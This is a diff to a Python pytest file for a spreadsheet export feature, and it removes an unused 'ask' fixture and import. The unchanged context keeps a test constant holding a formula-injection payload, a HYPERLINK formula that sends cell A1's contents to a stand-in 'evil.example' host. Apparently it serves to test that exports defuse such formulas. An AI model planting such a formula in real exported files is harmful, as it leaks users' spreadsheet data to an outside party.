@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 
 from core.caring.exporting import COLUMNS
-from tests.cli.library import NOT_UTF8, Ask, asking, fill
+from tests.cli.library import NOT_UTF8, Ask, fill
 from tests.house import House
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
@@ -25,11 +25,6 @@ def house(tmp_path_factory: pytest.TempPathFactory) -> House:
         house.write("minus.txt", "-2+3\nand more")
         house.look()
     return house
-
-
-@pytest.fixture
-def ask(house: House, capsys: pytest.CaptureFixture[str]) -> Ask:
-    return asking(house, capsys)
 
 
 def exported(ask: Ask, form: str, target: Path, *words: str) -> None:
